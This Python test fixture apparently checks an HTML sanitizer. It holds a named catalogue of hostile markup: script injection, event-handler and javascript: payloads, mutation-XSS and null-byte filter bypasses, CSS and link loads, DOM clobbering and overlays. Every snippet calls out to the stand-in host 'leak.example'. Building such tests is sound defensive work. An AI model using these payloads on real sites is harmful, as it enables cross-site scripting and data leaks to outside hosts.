"""Pages that would run, load, ask or lead somewhere if they could; each with a name. Every one tries to reach `HOST`."""
# ruff: noqa: E501  # one hostile thing a line is how they are read

HOST = "leak.example"

PICTURE = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

SAID = "At least 12 people were killed, the mayor said."

CALL = "document.title='ran';fetch('//leak.example/ran')"

PIECES: dict[str, str] = {
    "script": f"<script>{CALL}</script><script src=//leak.example/x.js></script><script type=module src=https://leak.example/m.js></script>",
    "script in pieces": f"<scr<script>ipt>{CALL}</scr</script>ipt><<script>script>{CALL}//<</script>",
    "onload": f'<body onload="{CALL}"><img src=x onerror="{CALL}"><div onmouseover={CALL} onfocus={CALL} autofocus tabindex=0>x</div>',
    "odd handlers": f'<details open ontoggle="{CALL}"><summary>s</summary></details><p/onclick="{CALL}"/style=color:red>x<a\x0bonclick={CALL}>y',
    "svg": f'<svg onload="{CALL}"><script>{CALL}</script><a href="javascript:{CALL}"><text>t</text></a><image href=//leak.example/i.svg></svg>',
    "svg animate": f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s /><set attributeName=href to=javascript:{CALL}></svg>',
    "svg use": "<svg><use href=\"https://leak.example/u.svg#a\"/></svg><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{CALL}"></style></mglyph></table></mtext></math>',
    "css imports": "<style>@import url(//leak.example/a.css);@import '//leak.example/b.css';@font-face{font-family:f;src:url(//leak.example/f)}"
    "p{background:url(//leak.example/p);font-family:f}div{background-image:image-set('//leak.example/s' 1x)}</style><p>styled</p><div>x</div>",
    "css escapes": "<style>p{background:u\\72l(//leak.example/e)}b{b\\61 ckground:url('//leak.example/g')}</style>"
    "<p style=\"background:ur\\l(//leak.example/h)\">p</p><b style='background:url(&#47;&#47;leak.example/k)'>b</b>",
    "css breaks out": f'<style>a{{}}</styl</style><img src=x onerror="{CALL}">e></style><style><!--</style><script>{CALL}</script>--></style>',
    "css variables": "<style>:root{--u:url(//leak.example/v)}p{background:var(--u);list-style:var(--u)}p::after{content:url(//leak.example/c)}</style><p>v</p>",
    "link": "<link rel=stylesheet href=//leak.example/l.css><link rel=prefetch href=//leak.example/pre><link rel=preconnect href=//leak.example>"
    "<link rel=dns-prefetch href=//leak.example><link rel=icon href=//leak.example/i.ico><link rel=modulepreload href=//leak.example/m>",
    "data html": f'<iframe src="data:text/html,<script>{CALL}</script>"></iframe><a href="data:text/html,<script>{CALL}</script>" id=go>go</a>',
    "javascript address": f'<a href="javascript:{CALL}">a</a><a href="java\tscript:{CALL}">b</a><a href=" &#1;javascript:{CALL}">c</a><area href=javascript:{CALL}>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://leak.example/refresh"><meta http-equiv="set-cookie" content=a=b>'
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "base": "<base href=https://leak.example/ target=_top><a href=next>next</a><img src=rel.png>",
    "nested frames": f'<iframe srcdoc="<script>{CALL}</script>"></iframe><iframe src=//leak.example/f></iframe><frameset><frame src=//leak.example/g></frameset>'
    "<object data=//leak.example/o></object><embed src=//leak.example/e><applet code=//leak.example/a></applet><portal src=//leak.example/p></portal>",
    "forms": f'<form action=//leak.example/post method=post id=f><input name=a autofocus onfocus="{CALL}"><button formaction=javascript:{CALL}>b</button>'
    "<input type=image src=//leak.example/i></form><isindex action=//leak.example/q>",
    "media": "<video src=//leak.example/v autoplay poster=//leak.example/p></video><audio src=//leak.example/a autoplay></audio>"
    "<picture><source srcset=//leak.example/s><img srcset='//leak.example/t 1x' src=//leak.example/u></picture><track src=//leak.example/w>",
    "old loads": "<table background=//leak.example/t><td background=//leak.example/d>x</table><body background=//leak.example/b><bgsound src=//leak.example/s>"
    "<img lowsrc=//leak.example/l dynsrc=//leak.example/y longdesc=//leak.example/z><blockquote cite=//leak.example/c>q</blockquote>",
    "ping": "<a href=//leak.example/h ping=//leak.example/ping download target=_top rel=opener>link</a>",
    "clobbering": "<form id=body name=documentElement><input name=attributes><input name=parentNode></form><img name=cookie id=location><a id=crossread-words>not ours</a>"
    "<mark class=crossread-words>not ours either</mark><style>#crossread-words,.crossread-words{display:none!important}</style>",
    "mutation noscript": f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    "mutation template": f'<template><p title="</template><img src=x onerror={CALL}>"></template><xmp><p id="</xmp><img src=x onerror={CALL}>"></xmp>',
    "mutation comment": f"<!--><img src=x onerror={CALL}>--><!--x--!><img src=x onerror={CALL}><![CDATA[<img src=x onerror={CALL}>]]>",
    "mutation title": f'<title><a title="</title><img src=x onerror={CALL}>"></title><textarea><p title="</textarea><img src=x onerror={CALL}>"></textarea>',
    "mutation table": f'<table><a title="</table><style><img src=x onerror={CALL}></style>">t<select><style></select><img src=x onerror={CALL}></style>',
    "attribute quotes": f"<p title='\" onmouseover=\"{CALL}'>q</p><p title=`\"><img src=x onerror={CALL}>`>r</p><img alt='\"><script>{CALL}</script>' src=x>",
    "names": "<a:script xmlns:a='http://www.w3.org/1999/xhtml'>x</a:script><x-y onclick=z><noembed><img src=//leak.example/n></noembed><plaintext><img src=//leak.example/pl>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9;background:red'>Accept cookies</div><style>body{opacity:0;overflow:hidden}html{visibility:hidden}</style>",
    "null bytes": f"<scr\x00ipt>{CALL}</scr\x00ipt><img src=x onerr\x00or={CALL}><a href='java\x00script:{CALL}'>n</a>",
}
"""Name to markup."""


def page(piece: str) -> bytes:
    """Hostile markup in, a page with it between words that can be looked for out."""
    return f"<!doctype html><html><head><title>T</title></head><body><p>Before.</p>{piece}<p>{SAID}</p></body></html>".encode()


def safe_end(piece: str) -> bytes:
    """Hostile markup in, a page whose words stand before it out: what is never closed swallows what follows it in browsers, too."""
    return f"<!doctype html><html><head><title>T</title></head><body><p>{SAID}</p><p>After.</p>{piece}</body></html>".encode()
